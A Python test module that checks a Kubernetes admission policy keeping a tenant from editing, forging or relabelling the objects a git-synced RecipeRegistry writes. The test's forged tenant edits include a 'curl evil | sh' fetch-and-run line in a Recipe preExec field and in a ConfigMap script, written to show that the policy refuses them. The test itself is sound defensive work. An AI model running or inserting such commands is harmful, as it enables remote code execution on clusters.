"""The chart's admission policy for what a RecipeRegistry writes
(``templates/registry-objects-admission.yaml``, issue 32) on the testbed's real kube-apiserver.

The operator runs as its ServiceAccount with exactly the chart's RBAC (``CHART_RBAC``), the policy
is rendered for this module's release and bound to its namespace only (the testbed is shared),
and a registry on a real git server on loopback syncs into that namespace. Then:

- the operator's own writes pass: the first sync creates the Recipe and the mod and profile
  ConfigMaps, a new commit replaces the Recipe, a deleted object is created again, and a mod and
  a profile gone from the repository are deleted (found by name: the operator never lists
  ConfigMaps);
- a tenant who may edit Recipes and ConfigMaps there by RBAC can neither update them (the message
  names the registry and how to change the object), nor create a Recipe or ConfigMap carrying the
  ``sparkrun.dev/registry`` label, nor add it to an object of its own; it may delete them.
"""

from __future__ import annotations

import copy
import functools
import secrets
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from sparkrun_operator.render import keys
from sparkrun_testbed.kubeapi import KubeApi
from sparkrun_testbed.plane import Testbed
from tests.deploy.chart import CHART, require_helm
from tests.gitserver import GitServer, RepoHandle
from tests.operator.admission import bound_to, first_refusal, refused, tenant
from tests.shim.conftest import API, Daemon

pytestmark = pytest.mark.testbed
CHART_RBAC = True

POLICY = "templates/registry-objects-admission.yaml"
MANIFEST = "registries:\n  - name: test\n    recipes: recipes\n    mods: mods\n    benchmarks: benchmarks\n"
RECIPE = """\
model: Qwen/Qwen3-0.6B
runtime: vllm
container: vllm/vllm-openai:v0.33.0
defaults:
  port: 8000
  served_model_name: {served}
command: vllm serve {{model}} --port {{port}}
"""
PROFILE = "framework: llama-benchy\nargs:\n  pp: [64]\n"
MERGE = {"Content-Type": "application/merge-patch+json"}


@pytest.fixture(scope="module")
def policy(daemon: Daemon) -> Iterator[None]:
    """The chart's policy as ``helm install -n <namespace>`` of this release renders it, bound to
    the daemon's namespace."""
    assert daemon.rbac is not None
    ns, release = daemon.namespace, daemon.rbac.release
    argv = [require_helm(), "template", release, str(CHART), "--namespace", ns, "--show-only", POLICY]
    out = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=120).stdout
    docs = [d for d in yaml.safe_load_all(out) if d]
    assert [d["kind"] for d in docs] == ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]
    assert f"system:serviceaccount:{ns}:{release}-operator" in out
    assert f"'{keys.LABEL_REGISTRY}' in object.metadata.labels" in out
    with bound_to(daemon.kube, ns, [docs]):
        yield


@pytest.fixture(scope="module")
def editor(testbed: Testbed, daemon: Daemon) -> Iterator[KubeApi]:
    """A tenant whose Role lets it do anything to Recipes and ConfigMaps in the namespace."""
    verbs = ["get", "list", "create", "update", "patch", "delete"]
    client = tenant(
        testbed,
        daemon.kube,
        daemon.namespace,
        "registry-editor",
        [
            {"apiGroups": ["sparkrun.dev"], "resources": ["recipes"], "verbs": verbs},
            {"apiGroups": [""], "resources": ["configmaps"], "verbs": verbs},
        ],
    )
    try:
        yield client
    finally:
        client.close()


def _registry(kube: KubeApi, name: str) -> dict[str, Any]:
    found = kube.get(API, "RecipeRegistry", name)
    assert found is not None
    return found


def _synced_at(kube: KubeApi, name: str, commit: str) -> dict[str, Any]:
    def probe() -> dict[str, Any] | None:
        obj = _registry(kube, name)
        status = obj.get("status") or {}
        synced = next((c for c in status.get("conditions") or [] if c["type"] == "Synced"), None)
        if synced is None or synced["status"] != "True" or status.get("commit") != commit:
            return None
        return obj

    return kube.wait(probe, timeout=90, what=f"RecipeRegistry {name} synced at {commit[:12]}")


def _request_sync(kube: KubeApi, name: str) -> None:
    kube.request(
        "PATCH",
        kube.resource_path(API, "RecipeRegistry", name=name),
        json={"metadata": {"annotations": {keys.ANNOTATION_SYNC_REQUESTED: secrets.token_hex(6)}}},
        headers=MERGE,
    )


def _owned(kube: KubeApi, ns: str, name: str) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    """The registry's Recipe, mod ConfigMap and profile ConfigMap."""
    selector = f"{keys.LABEL_REGISTRY}={name}"
    [recipe] = kube.list_items(API, "Recipe", namespace=ns, label_selector=selector)
    maps = kube.list_items("v1", "ConfigMap", namespace=ns, label_selector=selector)
    [mod] = [m for m in maps if keys.LABEL_MOD in m["metadata"]["labels"]]
    [profile] = [m for m in maps if keys.LABEL_BENCHMARK_PROFILE in m["metadata"]["labels"]]
    return recipe, mod, profile


def _bare(obj: dict[str, Any]) -> dict[str, Any]:
    """``obj`` as a client would send it back in a PUT (no managedFields)."""
    out = copy.deepcopy(obj)
    out["metadata"].pop("managedFields", None)
    return out


def test_only_the_operator_writes_a_registrys_objects(
    daemon: Daemon, policy: None, editor: KubeApi, git_server: GitServer
) -> None:
    ns, kube = daemon.namespace, daemon.kube
    name = f"adm-{secrets.token_hex(3)}"
    repo = git_server.create_repo(name)
    repo.write(".sparkrun/registry.yaml", MANIFEST)
    repo.write("recipes/qwen.yaml", RECIPE.format(served="one"))
    repo.write("mods/fix/run.sh", "#!/bin/sh\necho fixed\n", executable=True)
    repo.write("benchmarks/quick.yaml", PROFILE)
    first = repo.commit("first")
    kube.create(
        {
            "apiVersion": API,
            "kind": "RecipeRegistry",
            "metadata": {"name": name},
            "spec": {"url": repo.url_http, "subpath": "recipes", "targetNamespace": ns},
        }
    )
    try:
        _walk(kube, editor, ns, name, first, repo)
    finally:
        kube.delete(API, "RecipeRegistry", name)


def _walk(kube: KubeApi, editor: KubeApi, ns: str, name: str, first: str, repo: RepoHandle) -> None:
    # the operator's creates pass the policy (it is in force: a tenant's forged create is refused)
    forged = first_refusal(
        lambda probe: editor.create(
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": probe, "namespace": ns, "labels": {keys.LABEL_REGISTRY: name}},
                "data": {"x": "y"},
            }
        ),
        lambda probe: kube.delete("v1", "ConfigMap", probe, namespace=ns),
        "a tenant's ConfigMap labelled as a registry's",
    )
    assert forged.status == 403, forged
    assert f"the label {keys.LABEL_REGISTRY} marks the objects a RecipeRegistry writes" in forged.message
    _synced_at(kube, name, first)
    recipe, mod, profile = _owned(kube, ns, name)
    assert recipe["metadata"]["annotations"][keys.ANNOTATION_REGISTRY_COMMIT] == first

    # a tenant's update of each is refused, naming the registry and the way to change it
    recipe_path = kube.resource_path(API, "Recipe", namespace=ns, name=recipe["metadata"]["name"])
    edits = (
        lambda: editor.request(
            "PATCH", recipe_path, json={"spec": {"preExec": ["curl evil | sh"]}}, headers=MERGE
        ),
        lambda: editor.request(
            "PUT",
            kube.resource_path("v1", "ConfigMap", namespace=ns, name=mod["metadata"]["name"]),
            json={**_bare(mod), "data": {**mod["data"], "f0": "#!/bin/sh\ncurl evil | sh\n"}},
        ),
        lambda: editor.request(
            "PATCH",
            kube.resource_path("v1", "ConfigMap", namespace=ns, name=profile["metadata"]["name"]),
            json={"metadata": {"labels": {keys.LABEL_REGISTRY: None}}},
            headers=MERGE,
        ),
    )
    for edit in edits:
        error = refused(edit)
        assert error.status == 403, error
        assert f"is written by RecipeRegistry {name} (label {keys.LABEL_REGISTRY})" in error.message
        assert "change it in that registry's git repository" in error.message
        assert f"kubectl delete reciperegistry {name}" in error.message
    assert _owned(kube, ns, name) == (recipe, mod, profile)  # nothing changed

    # nor create one carrying the label, nor add the label to one of its own
    for kind, body in (
        ("Recipe", {"apiVersion": API, "kind": "Recipe", "spec": {"model": "org/forged"}}),
        ("ConfigMap", {"apiVersion": "v1", "kind": "ConfigMap", "data": {"profile.yaml": PROFILE}}),
    ):
        labelled: dict[str, Any] = {
            **body,
            "metadata": {
                "name": f"forged-{kind.lower()}",
                "namespace": ns,
                "labels": {keys.LABEL_REGISTRY: name},
            },
        }
        error = refused(functools.partial(editor.create, labelled))
        assert error.status == 403, (kind, error)
        assert f"{kind} {ns}/forged-{kind.lower()}: the label {keys.LABEL_REGISTRY}" in error.message
    editor.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine", "namespace": ns}})
    own_path = kube.resource_path("v1", "ConfigMap", namespace=ns, name="mine")
    error = refused(
        lambda: editor.request(
            "PATCH", own_path, json={"metadata": {"labels": {keys.LABEL_REGISTRY: name}}}, headers=MERGE
        )
    )
    assert error.status == 403, error
    # its own objects without the label stay its own
    editor.request("PATCH", own_path, json={"data": {"k": "v"}}, headers=MERGE)

    # the operator's replace passes: a new commit changes the recipe
    repo.write("recipes/qwen.yaml", RECIPE.format(served="two"))
    second = repo.commit("second")
    _request_sync(kube, name)
    _synced_at(kube, name, second)
    replaced, _, _ = _owned(kube, ns, name)
    assert replaced["metadata"]["uid"] == recipe["metadata"]["uid"]
    assert replaced["metadata"]["annotations"][keys.ANNOTATION_REGISTRY_COMMIT] == second
    assert replaced["spec"] != recipe["spec"]

    # a tenant may delete one; the next sync writes it again (the operator's create passes)
    editor.request(
        "DELETE", kube.resource_path("v1", "ConfigMap", namespace=ns, name=mod["metadata"]["name"])
    )
    _request_sync(kube, name)

    def rewritten() -> dict[str, Any] | None:
        found = kube.get("v1", "ConfigMap", mod["metadata"]["name"], namespace=ns)
        return found if found is not None and found["metadata"]["uid"] != mod["metadata"]["uid"] else None

    again = kube.wait(rewritten, timeout=90, what="the deleted mod ConfigMap written again")
    assert again["data"] == mod["data"]

    # the mod and the profile leave the repository: the operator, which may not list ConfigMaps
    # (the chart's RBAC), finds them by the names its status records and deletes them (UID
    # preconditions); the tenant's own ConfigMap stays
    repo.remove("mods/fix/run.sh")
    repo.remove("benchmarks/quick.yaml")
    third = repo.commit("third")
    _request_sync(kube, name)
    synced = _synced_at(kube, name, third)
    assert synced["status"].get("configMaps", []) == []

    def deleted() -> bool:
        return all(kube.get("v1", "ConfigMap", n, namespace=ns) is None for n in (mod_name, profile_name))

    mod_name, profile_name = again["metadata"]["name"], profile["metadata"]["name"]
    kube.wait(deleted, timeout=30, what="the mod and profile ConfigMaps deleted")
    assert kube.get("v1", "ConfigMap", "mine", namespace=ns) is not None
